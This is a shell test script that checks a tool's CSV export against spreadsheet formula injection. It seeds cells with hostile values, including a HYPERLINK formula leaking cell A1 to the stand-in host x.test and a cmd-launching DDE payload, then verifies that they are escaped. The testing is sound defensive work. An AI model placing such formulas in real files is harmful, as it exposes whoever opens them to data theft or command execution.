#!/bin/sh
# t-csv-formulas.sh - a CSV meant for Excel never holds a formula (issue 16,
# OWASP CSV injection): cells a vendor starts with = + - @ tab or CR, and
# our own labels, import into LibreOffice as text; the canonical CSV reads
# back to the same answers (the apostrophe rule in docs/csv.md).
. "$(dirname "$0")/lib.sh"
cd "$TMP" || exit 1

python3 - "$EX/active-gate-ss.tsv" <<'PY'
import sys
src = open(sys.argv[1], encoding="utf-8").read()
hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1+1", "''x", "'x"]
out, n = [], 0
for line in src.split("\n"):
    c = line.split("\t")
    if c[0].isdigit() and len(c) > 5 and n < len(hostile):
        h = hostile[n]
        c[5] = '"' + h.replace('"', '""') + '"'
        n += 1
    out.append("\t".join(c))
open("hostile.tsv", "w", encoding="utf-8", newline="").write("\n".join(out))
open("expect.txt", "w", encoding="utf-8").write("\n".join(repr(h) for h in hostile))
PY
run $SLACHECK convert hostile.tsv -o hostile.csv
expect_rc 0 "convert to CSV"
run $SLACHECK export hostile.tsv "$EX/qlingo.tsv" -o compare.csv
expect_rc 0 "export to CSV"
run $SLACHECK export "$EX/active-gate-ss.tsv" "$EX/active-gate-ss.tsv" -o same.csv
expect_rc 0 "export of two same files to CSV"

# 1. every cell that starts with a formula character got an apostrophe
python3 - <<'PY' || failures=$((failures + 1))
import csv, io, sys
bad = 0
for f in ("hostile.csv", "compare.csv", "same.csv"):
    text = open(f, encoding="utf-8-sig", newline="").read()
    for r in csv.reader(io.StringIO(text)):
        for cell in r:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                print("FAIL: %s: a cell starts with a formula character: %r" % (f, cell[:40]))
                bad = 1
sys.exit(bad)
PY

# 2. the canonical CSV reads back to the very same answers
run $SLACHECK convert hostile.tsv -o a.json
run $SLACHECK convert hostile.csv -o b.json
python3 - <<'PY' || failures=$((failures + 1))
import json, sys
a = json.load(open("a.json", encoding="utf-8"))
b = json.load(open("b.json", encoding="utf-8"))
ans = lambda d: [(i["no"], i.get("answer"), i.get("remarks")) for i in d["items"]]
want = [eval(l) for l in open("expect.txt", encoding="utf-8").read().split("\n")]
got = [i[1] for i in ans(b)][:len(want)]
if ans(a) != ans(b):
    print("FAIL: CSV round trip: answers differ", [x for x in zip(ans(a), ans(b)) if x[0] != x[1]][:3])
    sys.exit(1)
if got != [w.replace("\r", "\n") if w.startswith("\r") else w for w in want] and got != want:
    print("FAIL: CSV round trip: %r, expected %r" % (got, want))
    sys.exit(1)
PY

# 3. LibreOffice imports no formula
if ! outside_reader LibreOffice; then
    :
elif ! command -v soffice >/dev/null 2>&1; then
    unchecked "LibreOffice import (soffice not installed: apt-get install libreoffice-calc-nogui)"
else
    # one run for the three files: LibreOffice takes half a minute to start
    mkdir -p lo xo
    HOME="$TMP/lo" timeout 300 soffice --headless --norestore \
        -env:UserInstallation="file://$TMP/lo" --infilter="CSV:44,34,76,1" \
        --convert-to xlsx --outdir xo hostile.csv compare.csv same.csv >/dev/null 2>&1
    for f in hostile compare same; do
        if [ ! -s "xo/$f.xlsx" ]; then
            fail "LibreOffice did not convert $f.csv"
            continue
        fi
        python3 - "xo/$f.xlsx" <<'PY' || fail "LibreOffice read a formula from $f.csv"
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.startswith("xl/worksheets/") and n.endswith(".xml"):
        m = re.search(rb"<f[ >].{0,60}", z.read(n))
        if m:
            print("  %s: %r" % (n, m.group(0)))
            sys.exit(1)
PY
    done
fi
finish
